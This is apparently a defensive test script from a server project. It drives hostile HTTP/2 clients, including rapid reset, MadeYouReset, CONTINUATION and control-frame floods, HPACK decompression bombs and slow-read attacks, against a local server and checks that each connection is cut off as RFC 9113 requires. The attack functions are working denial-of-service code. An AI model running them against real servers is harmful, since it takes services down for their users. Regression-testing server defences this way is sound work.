#!/usr/bin/python3
"""attack.py: the hostile HTTP/2 clients of issue 21, one subcommand each.

    attack.py ATTACK --port PORT [--host 127.0.0.1] [--duration S]
                     [--ready FILE]

Each attack runs on a fresh TLS connection (ALPN h2), again and again until
--duration seconds have passed (at least once), so that a well-behaved
client measured meanwhile (tests/tls/test_h2_attacks.sh) sees the attack
for its whole run. --ready FILE is created once the first connection is up.

Every connection must end as RFC 9113 and issue 21 say (the "expects" of
each attack in ATTACKS below). The last line is a summary:

    rapid-reset: 3 connections, 3 as expected: GOAWAY(ENHANCE_YOUR_CALM) x3; ...

and the exit status is 0 when every connection ended as expected, 1 when
one did not (each such connection is printed: "unexpected: ..."), 2 when
none could be made.

`attack.py list` prints the attacks and what each expects.
"""
import argparse
import os
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import h2raw as h  # noqa: E402 (after the path is set)

CANCEL = h.error_code("CANCEL")


def connect(args):
    c = h.Client(args.host, args.port, timeout=args.io_timeout)
    if c.alpn != "h2":
        raise RuntimeError("ALPN chose %r, not h2" % (c.alpn,))
    return c


def goaway_in(c, *names):
    return c.goaway is not None and h.error_name(c.goaway[0]) in names


def split_block(sid, block, end_stream, size=16384):
    """HEADERS and as many CONTINUATION frames as a block needs."""
    parts = [block[i:i + size] for i in range(0, len(block), size)] or [b""]
    frames = [h.headers(sid, parts[0], end_stream=end_stream,
                        end_headers=len(parts) == 1)]
    for i, p in enumerate(parts[1:], 2):
        frames.append(h.continuation(sid, p, end_headers=i == len(parts)))
    return frames


def flood(c, make, limit, batch=100):
    """Send frames made by make(i) in batches, reading between them, until
    the server says goodbye, a write fails or 'limit' were sent; returns
    the count sent."""
    sent = 0
    while sent < limit and not c.finished():
        if not c.send(*(make(sent + i) for i in range(batch))):
            break
        sent += batch
        c.pump(0)
    c.wait(c.finished, 3)
    return sent


# --- the attacks: each takes (args, n), n the connection's index, and
# returns (as_expected, detail) -------------------------------------------------
def rapid_reset(args, n):
    """HEADERS then RST_STREAM(CANCEL), as fast as possible (CVE-2023-44487)."""
    c = connect(args)
    c.start()
    block = h.hpack_request("/healthz?tag=rapid-reset")

    def pair(i):
        sid = c.new_stream()
        return h.headers(sid, block, end_stream=True) + h.rst_stream(sid, CANCEL)

    if args.split_ms:
        sent = 0  # each batch of HEADERS in one write, the resets in the next
        while sent < args.streams and not c.finished():
            sids = [c.new_stream() for _ in range(args.wave)]
            if not c.send(*(h.headers(s, block, end_stream=True) for s in sids)):
                break
            time.sleep(args.split_ms / 1000)
            if not c.send(*(h.rst_stream(s, CANCEL) for s in sids)):
                break
            sent += len(sids)
            c.pump(0)
        c.wait(c.finished, 3)
    else:
        sent = flood(c, pair, args.streams)
    # nghttp2's own limiter says INTERNAL_ERROR, lbtls's glitch budget
    # ENHANCE_YOUR_CALM; a close without GOAWAY is a limit too (the
    # runner checks lbtls counted it)
    ok = goaway_in(c, "ENHANCE_YOUR_CALM", "INTERNAL_ERROR") or (
        c.goaway is None and c.closed is not None)
    return ok, c, "%d streams opened and reset" % sent


def reset_inflight(args, n):
    """Streams whose request is upstream (/slow), reset by the client: the
    server must bound the backend work (max_inflight), refusing new
    streams (REFUSED_STREAM) or going away (ENHANCE_YOUR_CALM)."""
    c = connect(args)
    c.start()
    block = h.hpack_request("/slow?ms=%d&tag=reset-inflight" % args.slow_ms)
    sent = 0
    end = time.monotonic() + max(args.duration, 0.5)
    while not c.finished() and time.monotonic() < end:
        sids = [c.new_stream() for _ in range(args.wave)]
        if not c.send(*(h.headers(s, block, end_stream=True) for s in sids)):
            break
        c.drain(0.05)  # the requests go upstream meanwhile
        if not c.send(*(h.rst_stream(s, CANCEL) for s in sids)):
            break
        sent += len(sids)
        c.pump(0)
    c.wait(c.finished, 0.3)
    refused = sum(1 for v in c.resets.values()
                  if h.error_name(v) == "REFUSED_STREAM")
    ok = refused > 0 or goaway_in(c, "ENHANCE_YOUR_CALM")
    return ok, c, "%d streams sent and reset, %d refused by the server" % (
        sent, refused)


# MadeYouReset (CVE-2025-8671): frames that make the server reset a stream
# itself. Each primitive opens a stream and breaks a rule on it; RFC 9113
# names the stream error; the server may end the connection instead
# (section 5.4.1: a stream error may be treated as a connection error).
def _post(sid, extra=()):
    return h.headers(sid, h.hpack_request("/echo-headers", "POST",
                                          extra=extra), end_stream=False)


MYR_PRIMITIVES = {
    # name: (RFC 9113 error, frames for stream sid)
    "window-overflow": (  # section 6.9.1: a stream window past 2^31-1
        "FLOW_CONTROL_ERROR",
        lambda sid: _post(sid) + h.window_update(sid, h.MAX_WINDOW)),
    "half-closed-data": (  # section 5.1: DATA after END_STREAM
        "STREAM_CLOSED",
        lambda sid: h.headers(sid, h.hpack_request("/healthz"),
                              end_stream=True) + h.data(sid, b"late")),
    "content-length": (  # section 8.1.1: DATA longer than content-length
        "PROTOCOL_ERROR",
        lambda sid: _post(sid, [("content-length", "4")]) +
        h.data(sid, b"longer than four", end_stream=True)),
    "zero-increment": (  # section 6.9: WINDOW_UPDATE of 0 on a stream
        "PROTOCOL_ERROR",
        lambda sid: _post(sid) + h.window_update(sid, 0)),
    "connection-header": (  # section 8.2.2: connection-specific field
        "PROTOCOL_ERROR",
        lambda sid: h.headers(sid, h.hpack_request(
            "/healthz", extra=[("connection", "keep-alive")]),
            end_stream=True)),
}


def made_you_reset(args, n):
    """One primitive: its stream error; then a burst of them: GOAWAY(
    ENHANCE_YOUR_CALM), unless the first already ended the connection."""
    code, make = MYR_PRIMITIVES[args.primitive]
    c = connect(args)
    c.start()
    c.wait(lambda: c.server_settings, 2)
    sid = c.new_stream()
    c.send(make(sid))
    c.wait(lambda: sid in c.resets or sid in c.status or c.finished(), 3)
    if sid in c.resets:
        first = "RST_STREAM(%s)" % h.error_name(c.resets[sid])
        first_ok = h.error_name(c.resets[sid]) == code
    elif sid in c.status:  # answered, not reset: not what RFC 9113 says
        return False, c, "first primitive: answered %d" % c.status[sid]
    else:
        return goaway_in(c, code), c, "first primitive: %s (a connection " \
            "error)" % c.outcome()
    sent = flood(c, lambda i: make(c.new_stream()), args.burst, batch=20)
    ok = first_ok and goaway_in(c, "ENHANCE_YOUR_CALM")
    return ok, c, "first primitive: %s; then %d more, %d reset" % (
        first, sent, len(c.resets))


def continuation_flood(args, n):
    """HEADERS without END_HEADERS, then CONTINUATION frames without end
    (CVE-2024-28182): the server must end the connection, not buffer."""
    c = connect(args)
    c.start()
    sid = c.new_stream()
    c.send(h.headers(sid, h.hpack_request("/healthz"), end_stream=True,
                     end_headers=False))
    field = h.hpack_literal("x-continued", "y" * 16)
    sent = flood(c, lambda i: h.continuation(sid, field), args.frames)
    ok = (c.goaway is not None and c.goaway[0] != 0) or (
        c.goaway is None and c.closed is not None)
    return ok, c, "%d CONTINUATION frames sent" % sent


def _bomb(args, first, block, what):
    """Requests whose decoded heads are far over any limit, --requests of
    them pipelined on one connection (the first block inserts the field
    the others reference): 431 on each stream, a reset of it, or a
    connection error; never forwarded."""
    c = connect(args)
    c.start()
    c.wait(lambda: c.server_settings, 2)  # acknowledged before the bombs
    sids = [c.new_stream() for _ in range(args.requests)]
    for i, sid in enumerate(sids):
        c.send(*split_block(sid, first if i == 0 else block, end_stream=True))
    c.wait(lambda: all(s in c.status or s in c.resets for s in sids) or
           c.finished(), 10)
    got = {}
    for sid in sids:
        if sid in c.status:
            k = "status %d" % c.status[sid]
        elif sid in c.resets:
            k = "RST_STREAM(%s)" % h.error_name(c.resets[sid])
        else:
            k = "no answer"
        got[k] = got.get(k, 0) + 1
    conn_error = (c.goaway is not None and c.goaway[0] != 0) or \
        c.closed is not None
    ok = all(k == "status 431" or k.startswith("RST_STREAM") or
             (k == "no answer" and conn_error) for k in got)
    return ok, c, "%d x %s (%d bytes of HPACK each) -> %s" % (
        len(sids), what, len(block),
        ", ".join("%s x%d" % kv for kv in sorted(got.items())))


def hpack_many_headers(args, n):
    """Tens of thousands of one-byte fields (an indexed reference each)."""
    count = args.fields
    refs = h.hpack_indexed(62) * count
    first = (h.hpack_request("/healthz") + h.hpack_literal_indexed("x", "y") +
             refs)
    return _bomb(args, first, h.hpack_request("/healthz") + refs,
                 "%d small fields" % count)


def hpack_ref_bomb(args, n):
    """One 4000-byte field in the dynamic table, referenced again and
    again: each byte on the wire decodes to 4 KB."""
    count = args.fields
    refs = h.hpack_indexed(62) * count
    first = (h.hpack_request("/healthz") +
             h.hpack_literal_indexed("x-bomb", "b" * 4000) + refs)
    return _bomb(args, first, h.hpack_request("/healthz") + refs,
                 "a 4000-byte field referenced %d times" % count)


def hpack_table_size(args, n):
    """Table-size games: the client asks for a 4 GB table for the server's
    encoder (SETTINGS_HEADER_TABLE_SIZE), and its own block starts with a
    size update above the server's SETTINGS_HEADER_TABLE_SIZE: RFC 7541
    section 4.2 makes that a decoding error, COMPRESSION_ERROR."""
    c = connect(args)
    c.start({h.HEADER_TABLE_SIZE: 2**32 - 1})
    c.wait(lambda: c.server_settings, 2)
    sid = c.new_stream()
    c.send(h.headers(sid, h.hpack_size_update(1 << 30) +
                     h.hpack_request("/healthz"), end_stream=True))
    c.wait(c.finished, 3)
    return goaway_in(c, "COMPRESSION_ERROR"), c, "size update to 2^30"


def hpack_error(args, n):
    """An indexed field past the static and dynamic tables: COMPRESSION_ERROR
    (RFC 7541 section 2.3.3, RFC 9113 section 4.3)."""
    c = connect(args)
    c.start()
    sid = c.new_stream()
    c.send(h.headers(sid, h.hpack_request("/healthz") + h.hpack_indexed(300),
                     end_stream=True))
    c.wait(c.finished, 3)
    return goaway_in(c, "COMPRESSION_ERROR"), c, "index 300, table empty"


def _control_flood(args, make, what):
    c = connect(args)
    c.start()
    c.wait(lambda: c.server_settings, 2)
    sent = flood(c, make, args.frames)
    return goaway_in(c, "ENHANCE_YOUR_CALM"), c, "%d %s sent" % (sent, what)


def settings_flood(args, n):
    """SETTINGS frames, each to be acknowledged (CVE-2019-9515)."""
    return _control_flood(
        args, lambda i: h.settings({h.INITIAL_WINDOW_SIZE: 65535}), "SETTINGS")


def ping_flood(args, n):
    """PING frames, each to be answered (CVE-2019-9512)."""
    return _control_flood(args, lambda i: h.ping(b"%08d" % (i % 10**8)),
                          "PING")


def priority_flood(args, n):
    """PRIORITY frames on idle streams (CVE-2019-9513)."""
    return _control_flood(
        args, lambda i: h.priority(1 + 2 * (i % 500), 3 + 2 * (i % 500)),
        "PRIORITY")


def empty_data_flood(args, n):
    """Empty DATA frames without END_STREAM on an open stream
    (CVE-2019-9518)."""
    c = connect(args)
    c.start()
    c.wait(lambda: c.server_settings, 2)
    sid = c.new_stream()
    c.send(_post(sid))
    sent = flood(c, lambda i: h.data(sid, b""), args.frames)
    return goaway_in(c, "ENHANCE_YOUR_CALM"), c, "%d empty DATA sent" % sent


def zero_window(args, n):
    """SETTINGS_INITIAL_WINDOW_SIZE 0, requests, and nothing read ever:
    the server must close the connection (limits.send_timeout). The
    client acknowledges the server's SETTINGS without reading them (they
    are the first frame a server sends) and watches the kernel's TCP
    state, which turns CLOSE_WAIT at the server's FIN, without reading."""
    c = connect(args)
    c.ack_settings = False  # acknowledged once, blind, below
    c.send(h.PREFACE, h.settings({h.INITIAL_WINDOW_SIZE: 0}),
           h.settings(ack=True))
    block = h.hpack_request("/")
    for _ in range(args.wave):
        c.send(h.headers(c.new_stream(), block, end_stream=True))
    start = time.monotonic()
    while (h.tcp_state(c.sock) == h.TCP_ESTABLISHED and
           time.monotonic() - start < args.wait):
        time.sleep(0.02)
    state, held = h.tcp_state(c.sock), time.monotonic() - start
    c.drain(1)  # now read what came, a GOAWAY perhaps
    ok = state != h.TCP_ESTABLISHED
    return ok, c, "closed by the server after %.2f s unread (TCP state %d)" % (
        held, state) if ok else "still open after %.1f s" % held


def never_reads(args, n):
    """Windows wide open, a tiny socket receive buffer, answers asked for
    (~28 KB each) and nothing read ever: the server's socket fills, and
    it must close the connection once it has taken nothing for
    limits.send_timeout. Watched from the server's end of the connection
    in /proc/net/tcp (the client's end never sees a FIN it does not read)."""
    c = h.Client(args.host, args.port, timeout=args.io_timeout, rcvbuf=4096)
    if c.alpn != "h2":
        raise RuntimeError("ALPN chose %r, not h2" % (c.alpn,))
    c.ack_settings = False  # acknowledged once, blind, below
    c.send(h.PREFACE, h.settings({h.INITIAL_WINDOW_SIZE: h.MAX_WINDOW}),
           h.window_update(0, h.MAX_WINDOW - 65535), h.settings(ack=True))
    # one 4000-byte field in the table, seven times in each request: the
    # JSON of /echo-headers brings ~28 KB back for ~40 bytes sent
    first = h.hpack_literal_indexed("x-big", "b" * 4000) + h.hpack_indexed(62) * 6
    block = h.hpack_request("/echo-headers")
    sent = 0
    while sent < args.streams and not c.write_error:
        extra = first if sent == 0 else h.hpack_indexed(62) * 7
        for _ in range(args.wave):
            c.send(h.headers(c.new_stream(), block + extra, end_stream=True))
            extra = h.hpack_indexed(62) * 7
        sent += args.wave
        time.sleep(0.05)
    start = time.monotonic()
    state = h.server_side_state(c)
    while state == h.TCP_ESTABLISHED and time.monotonic() - start < args.wait:
        time.sleep(0.05)
        state = h.server_side_state(c)
    held = time.monotonic() - start
    ok = state != h.TCP_ESTABLISHED
    return ok, c, "%d requests, nothing read: %s after %.2f s more" % (
        sent, "server end closed (state %s)" % state if ok else
        "server end still established", held)


def bad_preface(args, n):
    """Not the client preface after ALPN h2 (RFC 9113 section 3.4:
    PROTOCOL_ERROR, the GOAWAY may be left out); an HTTP/1.1 request and
    a broken magic in turn. No HTTP/1 answer may come back."""
    c = connect(args)
    if n % 2:
        what = "an HTTP/1.1 request"
        c.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
    else:
        what = "a broken magic"
        c.send(b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n", h.settings())
    c.wait(c.finished, 3)
    ok = (goaway_in(c, "PROTOCOL_ERROR") or
          (c.goaway is None and c.closed is not None)) and \
        "HEADERS" not in c.frames_in and not c.decode_error
    return ok, c, what


def data_on_stream0(args, n):
    """DATA on stream 0: PROTOCOL_ERROR (RFC 9113 section 6.1)."""
    c = connect(args)
    c.start()
    c.send(h.data(0, b"stream zero"))
    c.wait(c.finished, 3)
    return goaway_in(c, "PROTOCOL_ERROR"), c, "DATA on stream 0"


def headers_on_stream0(args, n):
    """HEADERS on stream 0: PROTOCOL_ERROR (RFC 9113 section 6.2)."""
    c = connect(args)
    c.start()
    c.send(h.headers(0, h.hpack_request("/healthz"), end_stream=True))
    c.wait(c.finished, 3)
    return goaway_in(c, "PROTOCOL_ERROR"), c, "HEADERS on stream 0"


def window_overflow(args, n):
    """WINDOW_UPDATE on stream 0 taking the connection's send window past
    2^31-1: FLOW_CONTROL_ERROR (RFC 9113 section 6.9.1)."""
    c = connect(args)
    c.start()
    c.send(h.window_update(0, h.MAX_WINDOW))
    c.wait(c.finished, 3)
    return goaway_in(c, "FLOW_CONTROL_ERROR"), c, "65535 + (2^31-1)"


def settings_timeout(args, n):
    """The server's SETTINGS never acknowledged: GOAWAY(SETTINGS_TIMEOUT)
    (RFC 9113 section 6.5.3) after http2.settings_timeout."""
    c = connect(args)
    c.ack_settings = False
    c.start()
    start = time.monotonic()
    c.wait(c.finished, args.wait)
    return goaway_in(c, "SETTINGS_TIMEOUT"), c, "after %.2f s" % (
        time.monotonic() - start)


ATTACKS = {
    "rapid-reset": (rapid_reset, "GOAWAY(ENHANCE_YOUR_CALM or nghttp2's "
                    "INTERNAL_ERROR) or closed"),
    "reset-inflight": (reset_inflight, "RST_STREAM(REFUSED_STREAM) over "
                       "max_inflight, or GOAWAY(ENHANCE_YOUR_CALM)"),
    "made-you-reset": (made_you_reset, "the primitive's stream error, then "
                       "GOAWAY(ENHANCE_YOUR_CALM)"),
    "continuation-flood": (continuation_flood, "GOAWAY(an error) or closed"),
    "hpack-many-headers": (hpack_many_headers, "431, RST_STREAM or a "
                           "connection error"),
    "hpack-ref-bomb": (hpack_ref_bomb, "431, RST_STREAM or a connection "
                       "error"),
    "hpack-table-size": (hpack_table_size, "GOAWAY(COMPRESSION_ERROR)"),
    "hpack-error": (hpack_error, "GOAWAY(COMPRESSION_ERROR)"),
    "settings-flood": (settings_flood, "GOAWAY(ENHANCE_YOUR_CALM)"),
    "ping-flood": (ping_flood, "GOAWAY(ENHANCE_YOUR_CALM)"),
    "priority-flood": (priority_flood, "GOAWAY(ENHANCE_YOUR_CALM)"),
    "empty-data-flood": (empty_data_flood, "GOAWAY(ENHANCE_YOUR_CALM)"),
    "zero-window": (zero_window, "closed (limits.send_timeout)"),
    "never-reads": (never_reads, "closed by the server (limits.send_timeout)"),
    "bad-preface": (bad_preface, "GOAWAY(PROTOCOL_ERROR) or closed"),
    "data-stream0": (data_on_stream0, "GOAWAY(PROTOCOL_ERROR)"),
    "headers-stream0": (headers_on_stream0, "GOAWAY(PROTOCOL_ERROR)"),
    "window-overflow": (window_overflow, "GOAWAY(FLOW_CONTROL_ERROR)"),
    "settings-timeout": (settings_timeout, "GOAWAY(SETTINGS_TIMEOUT)"),
}


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("attack", choices=sorted(ATTACKS) + ["list"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int)
    p.add_argument("--duration", type=float, default=0,
                   help="repeat on new connections for S seconds")
    p.add_argument("--ready", help="file created once the first is up")
    p.add_argument("--io-timeout", type=float, default=5)
    p.add_argument("--primitive", choices=sorted(MYR_PRIMITIVES),
                   default="window-overflow", help="made-you-reset's")
    p.add_argument("--streams", type=int, default=100000,
                   help="rapid-reset: at most this many per connection")
    p.add_argument("--frames", type=int, default=20000,
                   help="floods: at most this many frames per connection")
    p.add_argument("--burst", type=int, default=1000,
                   help="made-you-reset: primitives after the first")
    p.add_argument("--fields", type=int, default=100000,
                   help="hpack bombs: indexed references per request")
    p.add_argument("--requests", type=int, default=4,
                   help="hpack bombs: requests pipelined per connection")
    p.add_argument("--slow-ms", type=int, default=3000,
                   help="reset-inflight: how long /slow holds a request")
    p.add_argument("--wave", type=int, default=8,
                   help="reset-inflight, zero-window, rapid-reset --split-ms:"
                   " streams at a time")
    p.add_argument("--split-ms", type=float, default=0,
                   help="rapid-reset: the resets this long after their "
                   "HEADERS, in another write (default: in the same one)")
    p.add_argument("--wait", type=float, default=10,
                   help="zero-window, settings-timeout: longest wait (s)")
    args = p.parse_args()
    if args.attack == "list":
        for name, (fn, expects) in ATTACKS.items():
            print("%-20s %s; expects %s" % (name, fn.__doc__.split("\n")[0],
                                            expects))
        return 0
    if not args.port:
        p.error("--port is required")
    fn, expects = ATTACKS[args.attack]
    name = args.attack
    if name == "made-you-reset":
        name += "/" + args.primitive
    end = time.monotonic() + args.duration
    results, errors, n = [], [], 0
    while n == 0 or time.monotonic() < end:
        try:
            ok, c, detail = fn(args, n)
        except (OSError, RuntimeError) as e:
            errors.append("%s: %s" % (type(e).__name__, e))
            if len(errors) > 3 and not results:
                break
            n += 1
            continue
        finally:
            if args.ready and n == 0:
                open(args.ready, "w").close()
        c.close()
        results.append((ok, c.outcome(), detail))
        if not ok:
            print("unexpected: %s: connection %d: %s: %s (frames in: %s%s)" % (
                name, n, c.outcome(), detail, c.frames_in,
                ", resets: %s" % _codes(c.resets) if c.resets else ""))
        n += 1
    good = sum(1 for r in results if r[0])
    tally = {}
    for r in results:
        tally[r[1]] = tally.get(r[1], 0) + 1
    print("%s: %d connections, %d as expected (%s): %s; last: %s%s" % (
        name, len(results), good, expects,
        ", ".join("%s x%d" % kv for kv in sorted(tally.items())),
        results[-1][2] if results else "-",
        "; %d failed to connect (%s)" % (len(errors), errors[0]) if errors
        else ""))
    if not results:
        return 2
    return 0 if good == len(results) and not errors else 1


def _codes(resets):
    tally = {}
    for v in resets.values():
        tally[h.error_name(v)] = tally.get(h.error_name(v), 0) + 1
    return tally


if __name__ == "__main__":
    sys.exit(main())
